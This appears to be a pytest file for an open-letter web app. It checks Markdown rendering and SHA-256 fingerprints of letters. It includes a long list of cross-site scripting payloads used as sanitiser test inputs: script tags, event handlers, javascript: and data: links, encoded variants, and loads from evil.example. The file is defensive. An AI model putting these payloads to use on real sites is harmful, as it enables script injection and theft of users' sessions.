"""A letter's Markdown: shown safely whoever wrote it, and fingerprinted in one way only."""

from __future__ import annotations

import hashlib
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from openletter.letters import rendering
from openletter.letters.models import WRITING
from openletter.letters.rendering import canonical, fingerprint, to_html

ALLOWED_TAGS = {
    *("p", "br", "h2", "h3", "h4", "strong", "em", "s", "a", "ul", "ol", "li", "blockquote"),
    *("hr", "table", "thead", "tbody", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "start", "value"}


class Elements(HTMLParser):
    """The tags, attributes and links that a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _value in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


def scheme(link: str) -> str:
    """Return the scheme as a browser finds it, which skips some characters; "" when relative."""
    link = re.sub(r"[\t\r\n]", "", link).lstrip("".join(map(chr, range(33))))
    found = re.match(r"([a-z][a-z0-9+.-]*):", link, re.IGNORECASE)
    return found[1].lower() if found else ""


SCRIPTS = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<IMG SRC="javascript:alert('XSS');">
<IMG \"\"\"><SCRIPT>alert("XSS")</SCRIPT>"\\>
<img src=`javascript:alert(1)`>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="//evil.example/x.swf">
<link rel=stylesheet href="//evil.example/x.css">
<style>@import'//evil.example/x.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="javascript:alert(1);//">
<form action="//evil.example"><input name=password></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<video><source onerror="alert(1)">
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<table background="javascript:alert(1)">
<div style="width: expression(alert(1));">
<div style="background-image: url(javascript:alert(1))">
<a href="javascript:alert(1)">x</a>
<a href="java&#09;script:alert(1)">x</a>
<a href="&#14; javascript:alert(1)">x</a>
<a onmouseover="alert(1)">x</a>
<p onclick=alert(1)>x</p>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>
<![CDATA[<script>alert(1)</script>]]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<plaintext>
</title><script>alert(1)</script>
'"><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
[x](java\\nscript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](feed:javascript:alert(1))
[x](view-source:javascript:alert(1))
[x](https://a.example" onmouseover="alert(1))
[x](https://a.example "title" onmouseover="alert(1)")
[x](https://a.example '"><script>alert(1)</script>')
<javascript:alert(1)>
<data:text/html,alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zy8+)
![x](https://tracker.example/pixel.gif)
![x" onerror="alert(1)](https://evil.example/x.png)
[![x](https://tracker.example/pixel.gif)](https://evil.example)
`<script>alert(1)</script>`
    <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
# <img src=x onerror=alert(1)>
| <script>alert(1)</script> |
&lt;script&gt;alert(1)&lt;/script&gt;
\\<script>alert(1)\\</script>
""".splitlines()
DEFINED = "[x]\n\n[x]: javascript:alert(1)"
FENCED = '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```'
ALIGNED = "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |"


@pytest.mark.parametrize("markdown", [*SCRIPTS, DEFINED, FENCED, ALIGNED])
def test_t18_nothing_that_an_organiser_writes_runs_or_loads(markdown: str) -> None:
    for text in (markdown, f"Dear world,\n\n{markdown}\n\nlisten."):
        found = Elements(to_html(text))
        assert found.tags <= ALLOWED_TAGS
        assert found.attributes <= ALLOWED_ATTRIBUTES
        assert {scheme(link) for link in found.links} <= {"http", "https", "mailto"}


@settings(max_examples=300)
@given(st.text(st.sampled_from("<>\"'`&;:/()[]!#*_-= \n\tjavscriptdonle="), max_size=80))
def test_t18_nor_does_anything_that_looks_like_markup(markdown: str) -> None:
    found = Elements(to_html(markdown))
    assert found.tags <= ALLOWED_TAGS
    assert found.attributes <= ALLOWED_ATTRIBUTES


def test_raw_html_is_shown_as_it_was_typed() -> None:
    assert to_html("a <b>bold</b> word") == "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>\n"


def test_images_are_dropped() -> None:
    html = to_html("![our logo](https://example.org/logo.png)")
    assert "<img" not in html
    assert "our logo" in html


def test_links_pass_on_no_reference_and_no_window() -> None:
    html = to_html("[read](https://example.org/report)")
    assert 'href="https://example.org/report"' in html
    assert 'rel="nofollow ugc noopener noreferrer"' in html


@pytest.mark.parametrize(
    ("markdown", "tags"),
    [
        ("# One\n\n## Two\n\n### Three", ["h2", "h3", "h4"]),
        ("## One\n\n### Two", ["h2", "h3"]),
        ("###### One", ["h2"]),
        ("# One\n\n##### Five\n\n###### Six", ["h2", "h4", "h4"]),
        ("No heading", []),
    ],
)
def test_headings_start_under_the_title_of_the_page(markdown: str, tags: list[str]) -> None:
    html = to_html(markdown)
    assert [tag for tag in html.replace("<", " ").replace(">", " ").split() if tag in _H] == tags


_H = {"h1", "h2", "h3", "h4", "h5", "h6"}


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("*a* **b** ~~c~~", "<p><em>a</em> <strong>b</strong> <s>c</s></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("a  \nb", "<p>a<br>\nb</p>\n"),
        ("---", "<hr>\n"),
    ],
)
def test_what_a_letter_needs_is_there(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


def test_a_table_is_shown() -> None:
    assert {"table", "thead", "tbody", "th", "td"} <= Elements(to_html("|a|\n|-|\n|b|")).tags


# Kept for ever: a fingerprint that was signed must come out the same in every later release.
FIXED = [
    (
        ("A letter", "", "Dear world,\n\nlisten."),
        "A letter\n\n\n\nDear world,\n\nlisten.\n",
        "7f25283dcb59c7d30377b16848d5b2d592b6a6d5af6b8986f68b610db44c615e",
    ),
    (
        ("Über Öffnung", "An die Abgeordneten", "Wir bitten:\n\n- öffnet **alles**"),
        "Über Öffnung\n\nAn die Abgeordneten\n\nWir bitten:\n\n- öffnet **alles**\n",
        "5617e0b31690cd215e20fa57e65fa828f9f4c83ca102624c8642cf70fc4f5b9f",
    ),
    (
        ("公開信", "致議員", "請聽。"),
        "公開信\n\n致議員\n\n請聽。\n",
        "2e238aec5e9097aa9da22d9ebaae6408b134be4ff36cd32723eaaf002e8621b1",
    ),
]


@pytest.mark.parametrize(("typed", "text", "sha256"), FIXED)
def test_the_fingerprint_is_the_sha256_of_the_canonical_text(
    typed: tuple[str, str, str], text: str, sha256: str
) -> None:
    title, addressee, markdown = typed
    assert canonical(title=title, addressee=addressee, markdown=markdown) == text
    assert fingerprint(title=title, addressee=addressee, markdown=markdown) == sha256
    assert hashlib.sha256(text.encode()).hexdigest() == sha256


@pytest.mark.parametrize(
    "markdown",
    [
        "Über uns\n\nlisten.",
        "U\u0308ber uns\n\nlisten.",
        "Über uns\r\n\r\nlisten.",
        "Über uns\r\rlisten.",
        "Über uns  \n\t\nlisten. ",
        "Über uns\n\nlisten.\n\n\n",
    ],
)
def test_the_same_words_have_one_fingerprint(markdown: str) -> None:
    one = fingerprint(title="T", addressee="", markdown="Über uns\n\nlisten.")
    assert fingerprint(title="T", addressee="", markdown=markdown) == one


@pytest.mark.parametrize(
    ("title", "addressee", "markdown"),
    [
        ("T", "", "Listen."),
        ("T", "", " listen."),
        ("T", "", "listen.\n\nnow."),
        ("t", "", "listen."),
        ("T", "You", "listen."),
    ],
)
def test_other_words_have_another_fingerprint(title: str, addressee: str, markdown: str) -> None:
    one = fingerprint(title="T", addressee="", markdown="listen.")
    assert fingerprint(title=title, addressee=addressee, markdown=markdown) != one


@pytest.mark.slow
@given(st.text(max_size=60))
def test_line_ends_and_accents_change_no_fingerprint(markdown: str) -> None:
    text = unicodedata.normalize("NFC", markdown.replace("\r", ""))
    one = fingerprint(title="T", addressee="", markdown=text)
    for spelling in (text.replace("\n", "\r\n"), unicodedata.normalize("NFD", text)):
        assert fingerprint(title="T", addressee="", markdown=spelling) == one


# What the help beside the field names, what somebody types who follows it, and what comes of it.
IN_THE_HELP = {
    "Line breaks are kept": ("one\ntwo", {"br"}),
    "an empty line begins a new paragraph": ("one\n\ntwo", {"p"}),
    "# heading, ## smaller heading": (
        "# heading\n\n## smaller heading\n\n### x", {"h2", "h3", "h4"},
    ),
    "*emphasis*": ("*emphasis*", {"em"}),
    "**strong emphasis**": ("**strong emphasis**", {"strong"}),
    "~~struck through~~": ("~~struck through~~", {"s"}),
    "> quotation": ("> quotation", {"blockquote"}),
    "[words](https://…)": ("[words](https://example.org)", {"a"}),
    "lists of two lines or more that begin with - or 1. and so on": (
        "- one\n- two\n\ntext\n\n1. one\n2. two", {"ul", "ol", "li"},
    ),
    "--- on a line of its own": ("one\n\n---\n\ntwo", {"hr"}),
    "tables with | between the cells and a second line |---|---|": (
        "| a | b |\n|---|---|\n| 1 | 2 |", {"table", "thead", "tbody", "tr", "th", "td"},
    ),
    "begin with https:// or mailto: become links": ("https://example.org", {"a"}),
    "A backslash before a sign, as in \\*": ("\\*no emphasis\\*", {"p"}),
}  # fmt: skip


def test_the_help_beside_the_field_names_all_that_markup_can_do() -> None:
    named = set()
    for words, (typed, tags) in IN_THE_HELP.items():
        assert words in str(WRITING)
        assert tags <= Elements(to_html(typed)).tags, words
        named |= tags
    assert named == rendering._TAGS
    assert to_html("\\*no emphasis\\*") == "<p>*no emphasis*</p>\n"
